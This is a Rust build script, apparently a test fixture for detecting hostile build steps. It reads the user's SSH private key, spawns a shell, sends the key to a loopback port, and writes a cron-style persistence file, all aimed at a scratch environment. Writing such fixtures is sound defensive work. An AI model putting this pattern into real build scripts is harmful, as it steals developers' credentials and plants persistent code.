// A malicious build script, run by `cargo build` in the injected run only:
// it reads the user's private key, spawns a shell, sends the key to a loopback
// port (nobody listens there) and leaves a crontab-like file in the (scratch) HOME.
use std::io::Write;
use std::process::Command;

fn main() {
    let home = std::env::var("HOME").unwrap_or_default();
    // read a secret
    let key = std::fs::read(format!("{home}/.ssh/id_rsa")).unwrap_or_default();
    // spawn a shell
    let _ = Command::new("sh").args(["-c", "whoami"]).output();
    // exfiltrate it to a loopback port
    if let Ok(mut s) = std::net::TcpStream::connect("127.0.0.1:4444") {
        let _ = s.write_all(&key);
    }
    // persistence: a crontab-like file in HOME
    let _ = std::fs::create_dir_all(format!("{home}/.config/cron"));
    let _ = std::fs::write(format!("{home}/.config/cron/update"), "*/5 * * * * sh -c id\n");
}
